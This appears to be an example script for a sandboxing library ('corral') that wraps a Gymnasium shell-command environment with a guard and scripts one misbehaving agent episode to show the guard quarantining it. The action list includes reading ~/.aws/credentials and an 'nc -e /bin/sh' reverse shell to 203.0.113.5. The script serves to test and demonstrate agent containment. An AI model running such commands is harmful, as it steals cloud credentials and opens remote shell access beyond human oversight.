"""Gymnasium: a tool environment whose actions are shell commands; one misbehaving episode.

.venv/bin/python examples/integrations/gymnasium/tool_env.py
"""

import gymnasium

import corral.integrations.gymnasium  # noqa: F401  (registers corral/ToolEnv-v0)
from corral import Guard, Policy

with Guard(Policy.default(), run_id="gym-demo") as guard:
    env = gymnasium.make(
        "corral/ToolEnv-v0",
        guard=guard,
        prompt="Make the tests pass.",
        reward_fn=lambda r: float(r.exit_code == 0),
        max_episode_steps=8,
    )
    obs, info = env.reset(seed=0, options={"episode_id": "ep-0", "step": 0})
    for action in ["echo hello", "cat ~/.aws/credentials", "nc -e /bin/sh 203.0.113.5 4444"]:
        obs, reward, terminated, truncated, info = env.step(action)
        report = info["corral"]
        print(f"{action!r}: reward={reward:+.2f} quarantined={report.quarantined} truncated={truncated}")
        print("  the agent sees:", obs.strip().splitlines()[-1] if obs.strip() else "")
        if terminated or truncated:
            break
    env.close()
    print("sandboxes left open:", guard.open_episodes)
